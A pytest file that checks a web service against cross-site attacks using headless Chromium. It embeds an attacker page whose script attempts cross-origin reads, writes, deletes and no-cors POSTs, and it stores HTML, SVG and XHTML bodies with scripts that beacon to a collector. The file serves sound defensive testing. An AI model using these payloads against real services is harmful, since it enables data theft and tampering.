"""Other sites' pages against the service in open mode, in headless Chromium: what the
security review did from another origin (read, append, delete and create through
/v1/stream, close a run with a `no-cors` POST), and stream bodies of active types
opened on the service's origin. Nothing readable, nothing changed, nothing run."""

from __future__ import annotations

import asyncio
import json
import shutil
from collections.abc import AsyncIterator
from pathlib import Path

import asyncpg
import httpx
import pytest
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import HTMLResponse, Response
from starlette.routing import Route

from tests.access.conftest import log_digest
from tests.conftest import settings_for
from tests.support.servers import Running, serve_asgi, serve_in_process

NODE = Path(__file__).resolve().parents[1] / "node"
SECRET = "the victim's secret answer"

# The attacker's page: each attempt records what the page got to read.
ATTACK = """<!doctype html><title>hostile</title><script>
const S = %(service)s;
const results = {};
async function attempt(name, request) {
  try {
    const r = await request();
    results[name] = r.type === "opaque" ? "opaque" : `read ${r.status}: ${await r.text()}`;
  } catch (e) {
    results[name] = `blocked: ${e.name}`;
  }
}
(async () => {
  await attempt("read", () => fetch(`${S}/v1/stream/victim-run?offset=-1`));
  await attempt("list", () => fetch(`${S}/v1/runs?limit=500`));
  await attempt("append", () => fetch(`${S}/v1/stream/victim-run`, {
    method: "POST", headers: {"Content-Type": "application/json"},
    body: JSON.stringify([{type: "CUSTOM", name: "pwned", value: 1}])}));
  // text/plain needs no preflight: the request is made, whatever CORS says.
  await attempt("append_simple", () => fetch(`${S}/v1/stream/notes`, {
    method: "POST", headers: {"Content-Type": "text/plain"}, body: "pwned"}));
  await attempt("delete", () => fetch(`${S}/v1/stream/other-run`, {method: "DELETE"}));
  await attempt("put_html", () => fetch(`${S}/v1/stream/planted`, {
    method: "PUT", headers: {"Content-Type": "text/html"},
    body: "<script>fetch('/v1/runs?limit=500')<\\/script>"}));
  // No Content-Type at all (a Blob without a type), as the review sent it.
  const finish = {events: [{type: "RUN_FINISHED", threadId: "t-victim", runId: "victim-run"}],
                  close: true};
  await attempt("close_run", () => fetch(`${S}/v1/runs/victim-run/events`, {
    method: "POST", mode: "no-cors", body: new Blob([JSON.stringify(finish)])}));
  await attempt("append_no_cors", () => fetch(`${S}/v1/stream/notes`, {
    method: "POST", mode: "no-cors", headers: {"Content-Type": "text/plain"}, body: "pwned"}));
  window.results = results;
  window.done = true;
})();
</script>"""

CONTROL = """<!doctype html><title>control</title><script>
fetch("/hit?from=control").then(() => { window.reported = true; });
</script>"""


class Site:
    """Another loopback origin: the attacker's page, and a collector for reports."""

    def __init__(self) -> None:
        self.service = ""
        self.hits: list[str] = []

    def app(self) -> Starlette:
        async def attack(request: Request) -> Response:
            return HTMLResponse(ATTACK % {"service": json.dumps(self.service)})

        async def control(request: Request) -> Response:
            return HTMLResponse(CONTROL)

        async def hit(request: Request) -> Response:
            self.hits.append(request.query_params.get("from", "?"))
            return Response(status_code=204, headers={"Access-Control-Allow-Origin": "*"})

        return Starlette(
            routes=[
                Route("/attack", attack),
                Route("/control", control),
                Route("/hit", hit, methods=["GET", "POST"]),
            ]
        )


@pytest.fixture(scope="module")
async def open_service(database_url: str) -> AsyncIterator[Running]:
    async with serve_in_process(settings_for(database_url)) as running:
        yield running


async def _node(*args: str) -> dict[str, object]:
    proc = await asyncio.create_subprocess_exec(
        "node", "cross_site.mjs", *args, cwd=NODE,
        stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.PIPE,
    )  # fmt: skip
    out, err = await asyncio.wait_for(proc.communicate(), 120)
    assert proc.returncode == 0, err.decode()[-3000:]
    result: dict[str, object] = json.loads(out.decode().strip().splitlines()[-1])
    return result


async def _state(database_url: str) -> tuple[object, ...]:
    conn = await asyncpg.connect(database_url)
    try:
        streams = await conn.fetchval(
            "SELECT md5(coalesce(string_agg(name || content_type, ',' ORDER BY name), ''))"
            " FROM streams"
        )
        return (*await log_digest(conn), streams)
    finally:
        await conn.close()


async def test_page_of_another_origin_reads_nothing_and_changes_nothing_in_open_mode(
    open_service: Running, database_url: str, node_harness: Path
) -> None:
    assert shutil.which("chromium"), "the browser test needs Chromium (ops/test installs it)"
    async with httpx.AsyncClient(base_url=open_service.base_url, timeout=30) as client:
        for run_id in ("victim-run", "other-run"):
            r = await client.post(
                f"/v1/runs/{run_id}/events",
                json={"events": [
                    {"type": "RUN_STARTED", "threadId": "t-victim", "runId": run_id},
                    {"type": "TEXT_MESSAGE_START", "messageId": f"m-{run_id}",
                     "role": "assistant"},
                    {"type": "TEXT_MESSAGE_CONTENT", "messageId": f"m-{run_id}",
                     "delta": SECRET},
                ]},
            )  # fmt: skip
            assert r.status_code == 200, r.text
        notes = await client.put("/v1/stream/notes", headers={"Content-Type": "text/plain"})
        assert notes.status_code == 201
    before = await _state(database_url)
    site = Site()
    site.service = open_service.base_url
    async with serve_asgi(site.app()) as attacker:
        # Same host, another port: another origin, as another site's page is.
        result = await _node("attack", f"{attacker}/attack", open_service.base_url)
    results = result["results"]
    assert isinstance(results, dict)
    assert set(results) == {"read", "list", "append", "append_simple", "delete", "put_html",
                            "close_run", "append_no_cors"}  # fmt: skip
    for name, got in results.items():
        assert got.startswith(("blocked", "opaque")), (name, got)
        assert SECRET not in got
    # The log as the database has it, not as the page saw it: unchanged.
    assert await _state(database_url) == before
    # The writes a browser sends without asking first were refused by the service itself.
    answered = result["answered"]
    assert isinstance(answered, list)
    writes = [a for a in answered if a["method"] in ("POST", "PUT", "DELETE")]
    assert writes and all(a["status"] == 403 for a in writes), writes
    async with httpx.AsyncClient(base_url=open_service.base_url, timeout=30) as client:
        run = (await client.get("/v1/runs/victim-run")).json()
        assert run["closed"] is False and run["last_seq"] == 3


async def test_stream_bodies_of_active_types_never_run_on_the_services_origin(
    open_service: Running, node_harness: Path
) -> None:
    assert shutil.which("chromium"), "the browser test needs Chromium (ops/test installs it)"
    site = Site()
    async with serve_asgi(site.app()) as collector:
        report = (
            f"navigator.sendBeacon('{collector}/hit?from=' + document.contentType);"
            "document.title = 'script ran';"
        )
        bodies = {
            "active-html": (
                "text/html",
                f"<!doctype html><title>t</title><script>{report}</script>",
            ),
            "active-svg": (
                "image/svg+xml",
                '<svg xmlns="http://www.w3.org/2000/svg"><script>' + report + "</script></svg>",
            ),
            "active-xhtml": (
                "application/xhtml+xml",
                '<html xmlns="http://www.w3.org/1999/xhtml"><head><title>t</title></head>'
                "<body><script>" + report + "</script></body></html>",
            ),
        }
        urls = []
        reads: list[httpx.Response] = []
        async with httpx.AsyncClient(base_url=open_service.base_url, timeout=30) as client:
            for name, (content_type, body) in bodies.items():
                r = await client.put(
                    f"/v1/stream/{name}", content=body, headers={"Content-Type": content_type}
                )
                assert r.status_code == 201, r.text
                read = await client.get(f"/v1/stream/{name}", params={"offset": "-1"})
                assert read.text == body
                reads.append(read)
                urls += [f"{open_service.base_url}/v1/stream/{name}",
                         f"{open_service.base_url}/v1/stream/{name}?offset=-1"]  # fmt: skip
        result = await _node("open", f"{collector}/control", *urls)
    # The control page's report arrived, and no stream body's before it.
    assert site.hits == ["control"], (site.hits, result)
    opened = result["opened"]
    assert isinstance(opened, list)
    assert not [o for o in opened if o.get("title") == "script ran"], opened
    for read in reads:
        assert read.headers["content-disposition"] == "attachment"
        assert "sandbox" in read.headers["content-security-policy"]
        assert read.headers["x-content-type-options"] == "nosniff"
        assert read.headers["cross-origin-resource-policy"] == "same-origin"
